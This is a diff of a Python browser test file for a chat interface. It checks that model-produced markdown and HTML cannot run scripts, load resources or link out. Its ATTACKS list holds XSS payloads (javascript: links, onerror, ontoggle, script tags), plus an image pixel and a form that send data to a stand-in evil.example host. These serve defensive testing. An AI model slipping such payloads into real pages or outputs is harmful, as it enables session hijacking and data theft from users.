@@ -1,4 +1,4 @@
-"""A37, A34: nothing that a model, a user or a file says runs, loads or passes for a part of the page; keys stay in headers.
+"""A37, A34: nothing that a model, a user or a file says runs, loads or looks like the page; keys stay in headers.
 
 Every test ends with nobody having complained: no dialog was opened, and the content policy had nothing to stop.
 """
@@ -31,24 +31,25 @@ ATTACKS = [
     "![pixel](https://evil.example/?q=secret)",
     "![x](javascript:alert(1))",
     "<javascript:alert(1)>",
-    "```\"onmouseover=alert(1)\n<b>code</b>\n```",
+    '```"onmouseover=alert(1)\n<b>code</b>\n```',
     "<a href='#' style='position:fixed;inset:0'>cover</a>",
     "<form action=//evil.example><button>Send</button></form>",
     "[x]: javascript:alert(1)\n[x]",
     "<details open ontoggle=alert(1)>",
-    "\"><script>alert(1)</script>",
+    '"><script>alert(1)</script>',
 ]
 """What a model may be made to say."""
 ALL = "\n\n".join(ATTACKS)
-SAFE = {"href", "title", "target", "rel", "start", "class", "dir", "tabindex", "role", "aria-label", "type", "data-copy"}
-"""Attributes that a message's elements may have."""
+NEVER = {"script", "img", "iframe", "style", "object", "embed", "link", "meta", "svg", "input"}
+"""Elements that no message has."""
 
 
 def check(tab: Tab, where: str) -> None:
     """No element there that was not rendered on purpose, no attribute that does something, no link elsewhere."""
     found: dict[str, Any] = tab.page.evaluate(
         """(where) => {
-            const all = [...document.querySelectorAll(`${where} *`)].filter((each) => !each.closest("svg, .tools, footer, button, form"));
+            const ours = "svg, .tools, footer, button, form";
+            const all = [...document.querySelectorAll(`${where} *`)].filter((each) => !each.closest(ours));
             return {
                 names: [...new Set(all.map((each) => each.localName))],
                 attributes: [...new Set(all.flatMap((each) => each.getAttributeNames()))],
@@ -57,7 +58,9 @@ def check(tab: Tab, where: str) -> None:
         }""",
         where,
     )
-    assert not {"script", "img", "iframe", "style", "object", "embed", "link", "meta", "svg", "input"} & set(found["names"])
+    assert not {"script", "img", "iframe", "style", "object", "embed", "link", "meta", "svg", "input"} & set(
+        found["names"]
+    )
     assert not [name for name in found["attributes"] if name.startswith("on") or name in ("style", "src", "srcdoc")]
     assert set(found["links"]) <= {"http:", "https:", "mailto:"}
 
@@ -145,10 +148,13 @@ def test_a_brought_in_file_is_no_other_than_what_was_said(tab: Tab, script: Scri
 
 
 def test_even_html_that_should_never_have_come_does_nothing(tab: Tab, script: ScriptedPage) -> None:
-    """The page's own last line: were the server's sanitizer broken, nothing would run, and no link lead into the page."""
-    tab.expected = re.compile(r"Content Security Policy|^policy: (img-src|script-src)")  # it stops what was tried: no dialog opens
+    """Were the server's sanitizer broken, nothing would run, and no link lead into the page."""
+    tab.expected = re.compile(
+        r"Content Security Policy|^policy: (img-src|script-src)"
+    )  # it stops what was tried: no dialog opens
     turn = script.turn("Hello", "Hello.", None)
-    turn["blocks"] = ["<p><a href='javascript:alert(1)'>a</a><a href='#/c/x'>b</a><img src=x onerror=alert(1)><script>alert(1)</script></p>"]
+    links = "<a href='javascript:alert(1)'>a</a><a href='#/c/x'>b</a>"
+    turn["blocks"] = [f"<p>{links}<img src=x onerror=alert(1)><script>alert(1)</script></p>"]
     talk = script.add("Broken", [turn])
     tab.page.goto(f"{script.url}/#/c/{talk.id}")
     tab.complete()
